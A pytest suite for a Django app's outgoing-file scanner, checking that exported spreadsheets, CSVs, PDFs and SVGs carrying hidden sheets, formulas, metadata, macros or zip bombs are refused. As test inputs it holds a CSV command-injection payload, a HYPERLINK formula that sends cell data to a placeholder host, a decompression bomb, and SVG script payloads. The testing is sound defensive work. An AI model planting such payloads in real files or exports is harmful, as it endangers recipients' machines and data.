"""Files on their way out: nothing that is hidden leaves, and what leaves is values only."""

from __future__ import annotations

import csv
import time
import zlib
from collections.abc import Callable
from datetime import date
from io import BytesIO, StringIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
import pytest
from django.http import FileResponse, HttpResponse
from django.test import Client, RequestFactory
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName

from holdfast.access.outgoing import scan
from holdfast.access.outgoing.scan import problems
from holdfast.access.outgoing.table import as_csv, harmless, is_formula
from holdfast.web.outgoing import ScanOutgoing, file_name

Book = openpyxl.Workbook


def _book(change: Callable[[Book], object] = lambda book: None, **parts: bytes) -> bytes:
    book = Book()
    book.properties.creator = None
    sheet = book.active
    sheet.append(["Year", "Children"])
    sheet.append([2024, 12])
    change(book)
    written = BytesIO()
    book.save(written)
    return _with(written.getvalue(), **parts)


def _with(data: bytes, **parts: bytes) -> bytes:
    """The same file with further parts. openpyxl names itself as the creator: that is taken out first."""
    made = BytesIO()
    with ZipFile(BytesIO(data)) as old, ZipFile(made, "w", ZIP_DEFLATED) as new:
        for info in old.infolist():
            held = old.read(info)
            if info.filename == "docProps/core.xml":
                held = held.replace(b"<dc:creator>openpyxl</dc:creator>", b"")
            new.writestr(info, held)
        for name, held in parts.items():
            new.writestr(name.replace("__", "/").replace("_dot_", "."), held)
    return made.getvalue()


def _hidden_sheet(state: str) -> Callable[[Book], object]:
    def change(book: Book) -> None:
        book.create_sheet("names").sheet_state = state

    return change


def _set(name: str, value: Any) -> Callable[[Book], object]:
    return lambda book: setattr(book.active[name], "value", value)


def _column(**given: Any) -> Callable[[Book], object]:
    def change(book: Book) -> None:
        for name, value in given.items():
            setattr(book.active.column_dimensions["B"], name, value)

    return change


def _row(**given: Any) -> Callable[[Book], object]:
    def change(book: Book) -> None:
        for name, value in given.items():
            setattr(book.active.row_dimensions[2], name, value)

    return change


BAD_BOOKS: dict[str, bytes] = {
    "hidden sheet": _book(_hidden_sheet("hidden")),
    "very hidden sheet": _book(_hidden_sheet("veryHidden")),
    "hidden column": _book(_column(hidden=True)),
    "column of no width": _book(_column(width=0.01)),
    "hidden row": _book(_row(hidden=True)),
    "row of no height": _book(_row(height=0.1)),
    "formula": _book(_set("C1", "=A2&B2")),
    "link formula": _book(_set("C1", '=HYPERLINK("http://example.invalid/"&A2)')),
    "comment": _book(lambda b: setattr(b.active["A1"], "comment", Comment("Amina", "x"))),
    "white letters": _book(lambda b: setattr(b.active["A2"], "font", Font(color="FFFFFFFF"))),
    "format that hides": _book(lambda b: setattr(b.active["A2"], "number_format", ";;;")),
    "defined name": _book(lambda b: b.defined_names.add(DefinedName("people", attr_text="Sheet!$A$1"))),
    "filter": _book(lambda b: setattr(b.active.auto_filter, "ref", "A1:B2")),
    "author": _book(lambda b: setattr(b.properties, "creator", "Ngozi Okafor")),
    "last author": _book(lambda b: setattr(b.properties, "lastModifiedBy", "Ngozi Okafor")),
    "hyperlink outside": _book(lambda b: setattr(b.active["A1"], "hyperlink", "https://example.invalid/")),
    "header that only prints": _book(lambda b: setattr(b.active.oddHeader.left, "text", "Amina")),
    "opens hidden": _book(lambda b: setattr(b.views[0], "visibility", "hidden")),
    "pivot cache": _book(
        xl__pivotCache__pivotCacheRecords1_dot_xml=b"<pivotCacheRecords><r><s v='Amina'/></r></pivotCacheRecords>"
    ),
    "pivot table": _book(xl__pivotTables__pivotTable1_dot_xml=b"<pivotTableDefinition/>"),
    "external link": _book(xl__externalLinks__externalLink1_dot_xml=b"<externalLink/>"),
    "macros": _book(xl__vbaProject_dot_bin=b"x"),
    "custom data": _book(customXml__item1_dot_xml=b"<a/>"),
    "custom properties": _book(docProps__custom_dot_xml=b"<Properties/>"),
    "embedded file": _book(xl__embeddings__oleObject1_dot_bin=b"x"),
    "picture": _book(xl__media__image1_dot_png=b"x"),
    "connection": _book(xl__connections_dot_xml=b"<connections/>"),
    "threaded comment": _book(xl__threadedComments__threadedComment1_dot_xml=b"<ThreadedComments/>"),
    "entity": _book(xl__more_dot_xml=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "part twice": _book(**{"xl__theme__extra_dot_xml": b"<a/>"})[:-1],
    "company": _book(docProps__more_dot_xml=b"<Properties><Company>Marrowshire</Company></Properties>"),
    "no workbook": b"PK\x05\x06" + b"\0" * 18,
    "not a zip": b"Amina Yusuf",
    "empty": b"",
}


@pytest.mark.parametrize("name", BAD_BOOKS)
def test_50_a_workbook_that_holds_more_than_it_shows_does_not_leave(name: str) -> None:
    assert problems("children.xlsx", BAD_BOOKS[name]), name


def test_50_a_plain_workbook_leaves() -> None:
    assert problems("children.xlsx", _book()) == []


def _ods(content: str = "", meta: str = "", **parts: bytes) -> bytes:
    made = BytesIO()
    with ZipFile(made, "w") as new:
        new.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        spaces = 'xmlns:o="urn:o" xmlns:table="urn:t" xmlns:style="urn:s" xmlns:office="urn:f" xmlns:dc="urn:d"'
        new.writestr("content.xml", f"<o:document {spaces}><table:table-cell/>{content}</o:document>")
        new.writestr("meta.xml", f"<o:meta {spaces}>{meta}</o:meta>")
        for name, held in parts.items():
            new.writestr(name, held)
    return made.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        _ods('<table:table-row table:visibility="collapse"/>'),
        _ods('<table:table-column table:visibility="filter"/>'),
        _ods('<style:table-properties table:display="false"/>'),
        _ods("<office:annotation/>"),
        _ods('<table:table-cell table:formula="of:=[.A1]"/>'),
        _ods("<table:data-pilot-table/>"),
        _ods("<table:tracked-changes/>"),
        _ods(meta="<dc:creator>Ngozi Okafor</dc:creator>"),
        _ods(**{"Basic/script.xml": b"<a/>"}),
        _ods(**{"Object 1/content.xml": b"<a/>"}),
        b"PK",
    ],
)
def test_50_an_open_document_that_holds_more_than_it_shows_does_not_leave(data: bytes) -> None:
    assert problems("children.ods", data)
    assert problems("children.ods", _ods()) == []


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00a0=1", "\u200b=1", "ok\n=1", "＝1",
     "|x", "\n", "%1"],
)  # fmt: skip
def test_49_a_formula_is_found_and_made_harmless(cell: str) -> None:
    assert is_formula(cell) and not is_formula(harmless(cell)), cell
    assert problems("a.csv", cell.encode()) or cell in ("\r=1", "\n", "\t=1", "ok\n=1") or "\n" in cell


@pytest.mark.parametrize("cell", ["-5", "+3.2", "12%", "-1,234", "Amina", "a=b", "2024-01-01", "", "1 to 7"])
def test_49_a_plain_value_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=8))
def test_49_whatever_is_written_passes_the_scanner_and_comes_back_as_text(rows: list[list[str]]) -> None:
    data = as_csv(["a", "b"], rows)
    read = list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))
    assert not any(is_formula(cell) for row in read for cell in row)
    assert len(read) == len(rows) + 1


def test_49_values_of_other_kinds_are_written_as_they_are_said() -> None:
    assert b"2026-11-23,7," in as_csv(["a"], [[date(2026, 11, 23), 7, None]])


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7 /EmbeddedFile",
        b"%PDF-1.7 /JavaScript (x)",
        b"%PDF-1.7 /Author (Ngozi Okafor)",
        b"%PDF-1.7 /Encrypt 5 0 R",
        b"%PDF-1.7 stream\n" + zlib.compress(b"/Author (Ngozi Okafor)") + b"\nendstream",
        b"%PDF-1.7 stream\n" + zlib.compress(b"/Subtype /Text /Contents (she is at)") + b"\nendstream",
        b"not a document",
    ],
)
def test_50_a_document_with_something_inside_does_not_leave(data: bytes) -> None:
    assert problems("letter.pdf", data)


@pytest.mark.parametrize("name", ["a.docx", "a.xls", "a.xlsm", "a.zip", "a", "", "a.exe", "a.csv.html"])
def test_50_a_kind_that_is_not_known_does_not_leave(name: str) -> None:
    assert problems(name, b"x")


def test_50_pictures_with_scripts_do_not_leave() -> None:
    assert problems("a.svg", b"<svg><script>1</script></svg>") and problems("a.svg", b'<svg onload="x"/>')
    assert problems("a.svg", b'<svg><use href="#a"/></svg>') == []


def test_53_a_bomb_is_refused_at_once() -> None:
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as new:
        for number in range(4):
            new.writestr(f"xl/{number}.xml", b" " * 100_000_000)
    began = time.monotonic()
    assert problems("a.xlsx", made.getvalue()) == ["The file unpacks to too much"]
    assert time.monotonic() - began < 1


def test_50_a_file_that_is_too_large_does_not_leave(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scan, "MOST_BYTES", 10)
    assert problems("a.csv", b"x" * 11)


def _through(answer: HttpResponse) -> HttpResponse:
    return ScanOutgoing(lambda request: answer)(RequestFactory().get("/"))


def test_50_no_view_can_send_a_file_past_the_scanner() -> None:
    book = BAD_BOOKS["very hidden sheet"]
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    for answer in (
        HttpResponse(book, content_type=kind),
        HttpResponse(book, headers={"Content-Disposition": 'attachment; filename="foi.xlsx"'}),
        HttpResponse(book, content_type="application/octet-stream"),
        HttpResponse(b"x", content_type="application/msword"),
        HttpResponse(b"=1+1", content_type="text/csv"),
        FileResponse(BytesIO(book), filename="foi.xlsx", as_attachment=True),
    ):
        sent = _through(answer)
        assert sent.status_code == 500 and book not in sent.content
    assert _through(HttpResponse(_book(), content_type=kind)).status_code == 200
    assert file_name(HttpResponse("a page")) == "" and _through(HttpResponse("a page")).content == b"a page"


@pytest.mark.django_db
def test_50_what_holdfast_itself_sends_passes() -> None:
    from holdfast.figures.national import national_picture
    from holdfast.web.figure_tables import tables

    client = Client()
    for table in tables(national_picture()):
        assert client.get(f"/figures/{table.name}.csv").status_code == 200, table.name
    assert client.get("/figures/report.pdf").status_code == 200
